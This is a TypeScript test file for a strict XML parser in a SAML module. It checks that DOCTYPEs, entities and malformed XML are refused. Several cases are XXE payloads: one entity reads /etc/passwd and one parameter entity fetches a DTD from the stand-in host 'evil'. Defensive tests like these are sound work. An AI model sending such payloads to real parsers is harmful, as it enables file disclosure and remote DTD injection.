// Untrusted XML parsing: DTDs of any kind and any parser complaint are refused.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseXmlStrict, XmlRejectedError } from '../../../src/saml/xml-guard.ts';

describe('parseXmlStrict', () => {
  test('parses a well-formed document with comments and CDATA', () => {
    const doc = parseXmlStrict('<?xml version="1.0"?><!-- c --><a><![CDATA[x<y]]></a>');
    assert.equal(doc.documentElement?.textContent, 'x<y');
  });

  for (const [name, xml] of [
    ['a DOCTYPE', '<!DOCTYPE a><a/>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>'],
    ['an undeclared entity', '<a>&x;</a>'],
    ['two roots', '<a/><b/>'],
    ['an unclosed element', '<a><b></a>'],
    ['an unbound prefix', '<x:a/>'],
    ['no element at all', '   '],
  ] as const) {
    test(`refuses ${name}`, () => {
      assert.throws(() => parseXmlStrict(xml), XmlRejectedError);
    });
  }
});
